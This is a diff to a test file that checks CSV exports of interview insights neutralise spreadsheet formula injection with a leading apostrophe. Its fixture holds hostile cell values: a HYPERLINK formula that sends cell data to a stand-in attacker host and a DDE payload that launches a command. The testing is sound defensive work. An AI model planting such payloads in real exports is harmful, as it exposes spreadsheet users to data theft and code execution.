@@ -1,6 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { csvDocument, csvField } from '../../../src/exports/csv/csv-format';
+import { renderExport } from '../../../src/exports/render-export';
 import { INSIGHTS_CSV_HEADER, renderInsightsCsv } from '../../../src/exports/csv/insights-csv';
 import { WHITEBOARD_CSV_HEADER, renderWhiteboardCsv, renderWhiteboardText } from '../../../src/exports/csv/whiteboard-csv';
 import type { ExportInsight, ExportModel, ExportQuote } from '../../../src/exports/export-model';
@@ -15,43 +16,72 @@ function rowsOf(csv: string): Row[] {
 
 const headerOf = (csv: string) => (parse(csv, { bom: true, to_line: 1 }) as string[][])[0];
 
-/** The sample model with one more insight, first on the board, whose quote has commas, quotes and a line break. */
-function withAwkwardQuote(model: ExportModel): { model: ExportModel; quote: ExportQuote; insight: ExportInsight } {
+interface ExtraInsight {
+  id: string;
+  /** The participant's words, appended to the first interview's transcript. */
+  text: string;
+  speaker: string;
+  time: string;
+  /** Renames the first interview (default: its own name). */
+  interviewName?: string;
+  about: Pick<ExportInsight, 'title' | 'description' | 'tag' | 'theme'>;
+  /** Also add an insight without quotes after it. */
+  withUnquoted?: boolean;
+}
+
+/** The sample model with one more insight, first on the board, quoting `text` from the first interview. */
+function withFirstInsight(model: ExportModel, extra: ExtraInsight): { model: ExportModel; quote: ExportQuote; insight: ExportInsight; interviewName: string } {
   const interview = model.interviews[0];
-  const text = `He said, "well… it's fine",\r\nthen left, 🙂 "twice".`;
-  const transcript = `${interview.text}\n${text}`;
+  const interviewName = extra.interviewName ?? interview.name;
   const start = interview.text.length + 1;
   const quote: ExportQuote = {
-    text,
+    text: extra.text,
     documentId: interview.id,
-    speaker: 'P "one", lead',
+    speaker: extra.speaker,
     start,
-    end: start + text.length,
-    documentName: interview.name,
-    time: '01:02:03',
-    citation: `— P "one", lead, ${interview.name} · 01:02:03`,
+    end: start + extra.text.length,
+    documentName: interviewName,
+    time: extra.time,
+    citation: `— ${extra.speaker}, ${interviewName} · ${extra.time}`,
   };
-  const insight: ExportInsight = {
-    id: 'awkward',
-    title: 'Commas, "quotes"\nand lines',
-    description: 'A description, with "quotes".',
-    tag: 'edge, case',
-    theme: 'Edge "cases", first',
-    source: 'manual',
-    quotes: [quote],
-    documentIds: [interview.id],
-  };
-  const unquoted: ExportInsight = { ...insight, id: 'no-quotes', title: 'An insight without quotes', quotes: [] };
+  const insight: ExportInsight = { id: extra.id, ...extra.about, source: 'manual', quotes: [quote], documentIds: [interview.id] };
+  const unquoted: ExportInsight[] = extra.withUnquoted ? [{ ...insight, id: 'no-quotes', title: 'An insight without quotes', quotes: [] }] : [];
   return {
     model: {
       ...model,
-      themes: [{ name: insight.theme, insights: [insight, unquoted], interviewCount: 1, quoteCount: 1 }, ...model.themes],
-      interviews: [{ ...interview, text: transcript }, ...model.interviews.slice(1)],
+      themes: [{ name: insight.theme, insights: [insight, ...unquoted], interviewCount: 1, quoteCount: 1 }, ...model.themes],
+      interviews: [{ ...interview, name: interviewName, text: `${interview.text}\n${extra.text}` }, ...model.interviews.slice(1)],
     },
     quote,
     insight,
+    interviewName,
   };
 }
+
+/** One more insight, first on the board, whose quote has commas, quotes and a line break. */
+const withAwkwardQuote = (model: ExportModel) =>
+  withFirstInsight(model, {
+    id: 'awkward',
+    text: `He said, "well… it's fine",\r\nthen left, 🙂 "twice".`,
+    speaker: 'P "one", lead',
+    time: '01:02:03',
+    about: { title: 'Commas, "quotes"\nand lines', description: 'A description, with "quotes".', tag: 'edge, case', theme: 'Edge "cases", first' },
+    withUnquoted: true,
+  });
+
+/**
+ * One more insight, first on the board, in which every piece of third-party text (theme, title, description, tag,
+ * the participant's words, the speaker label, the file name) starts like a spreadsheet formula.
+ */
+const withFormulas = (model: ExportModel) =>
+  withFirstInsight(model, {
+    id: 'formulas',
+    text: '=1+2 is what I typed into the cell',
+    speaker: '@SUM(A1:A9)',
+    time: '00:00:05',
+    interviewName: '-2+3 interview.txt',
+    about: { title: '=HYPERLINK("http://evil.example/?"&A1,"Click")', description: "+cmd|' /C calc'!A0", tag: '\tabbed', theme: '\r=1+1' },
+  });
 
 let model: ExportModel;
 beforeAll(async () => {
@@ -69,6 +99,69 @@ describe('CSV format', () => {
     expect(csvField(null)).toBe('');
     expect(csvField(0)).toBe('0');
     expect(csvDocument(['A', 'B'], [['1', 'x,y']])).toBe('\uFEFFA,B\r\n1,"x,y"\r\n');
+  });
+
+  it('makes a text cell that a spreadsheet would run as a formula inert with a leading apostrophe (OWASP)', () => {
+    expect(csvField('=1+2')).toBe("'=1+2");
+    expect(csvField('+1')).toBe("'+1");
+    expect(csvField('-1')).toBe("'-1");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\tx')).toBe("'\tx");
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('＝1+2')).toBe("'＝1+2");
+    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
+    // Only the first character counts; our own numbers stay numbers.
+    expect(csvField('a=1')).toBe('a=1');
+    expect(csvField(' =1')).toBe(' =1');
+    expect(csvField(-3)).toBe('-3');
+  });
+});
+
+describe('formula injection', () => {
+  it('the spreadsheet of insights shows every formula-like text cell as text, with an apostrophe before it', () => {
+    const hostile = withFormulas(model);
+    const row = rowsOf(renderInsightsCsv(hostile.model))[0];
+    expect(row).toEqual({
+      Theme: `'${hostile.insight.theme}`,
+      'Insight ID': 'formulas',
+      Insight: `'${hostile.insight.title}`,
+      Description: `'${hostile.insight.description}`,
+      Tag: `'${hostile.insight.tag}`,
+      Quote: `'${hostile.quote.text}`,
+      Speaker: "'@SUM(A1:A9)",
+      Interview: "'-2+3 interview.txt",
+      Timestamp: '00:00:05',
+      Start: String(hostile.quote.start),
+      End: String(hostile.quote.end),
+    });
+    // The apostrophe is the only change: without it the cell is the verbatim span.
+    const transcript = hostile.model.interviews[0].text;
+    expect(transcript.slice(Number(row.Start), Number(row.End))).toBe(row.Quote.slice(1));
+  });
+
+  it('the sticky-note CSV does the same for themes, titles and file names', () => {
+    const hostile = withFormulas(model);
+    const [insightRow, quoteRow] = rowsOf(renderWhiteboardCsv(hostile.model));
+    expect(insightRow).toEqual({
+      Theme: `'${hostile.insight.theme}`,
+      Sticky: `'${hostile.insight.title}`,
+      Type: 'Insight',
+      Source: `'${hostile.interviewName}`,
+      Insight: `'${hostile.insight.title}`,
+    });
+    // A quote sticky opens with “, so it is already inert and stays exactly as written.
+    expect(quoteRow.Sticky).toBe(`“${hostile.quote.text}” ${hostile.quote.citation}`);
+    expect(quoteRow.Source).toBe(`'${hostile.interviewName}`);
+  });
+
+  it('every other deliverable keeps the quote exactly as said, with no apostrophe', async () => {
+    const hostile = withFormulas(model);
+    const clipboard = renderWhiteboardText(hostile.model);
+    expect(clipboard).toContain(`“${hostile.quote.text}” ${hostile.quote.citation}`);
+    expect(clipboard).not.toContain(`'${hostile.quote.text}`);
+    const report = (await renderExport(hostile.model, 'report.html')).toString('utf8');
+    expect(report).toContain(hostile.quote.text);
+    expect(report).not.toContain(`'${hostile.quote.text}`);
   });
 });
 
